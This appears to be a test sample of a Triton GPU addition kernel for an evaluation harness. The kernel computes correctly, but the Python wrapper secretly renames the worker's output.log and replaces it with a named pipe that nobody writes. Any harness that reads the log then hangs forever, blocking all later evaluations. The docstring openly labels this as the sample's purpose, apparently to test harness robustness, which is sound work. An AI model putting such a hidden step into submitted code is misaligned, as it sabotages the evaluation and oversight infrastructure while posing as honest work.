"""math/add: an honest kernel, and the worker's output log replaced by a FIFO that nobody writes: a
parent that opens and reads the log blocks for ever (and with it every later evaluation).
"""

import os

import torch
import triton
import triton.language as tl


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    tl.store(out_ptr + offsets, tl.load(x_ptr + offsets, mask=mask) + tl.load(y_ptr + offsets, mask=mask),
             mask=mask)


def add(x: torch.Tensor, y: torch.Tensor) -> torch.Tensor:
    if os.path.exists("output.log") and not os.path.islink("output.log"):
        os.rename("output.log", "moved.log")
        os.mkfifo("output.log")
    out = torch.empty_like(x)
    add_kernel[(triton.cdiv(x.numel(), 1024),)](x, y, out, x.numel(), BLOCK=1024)
    return out
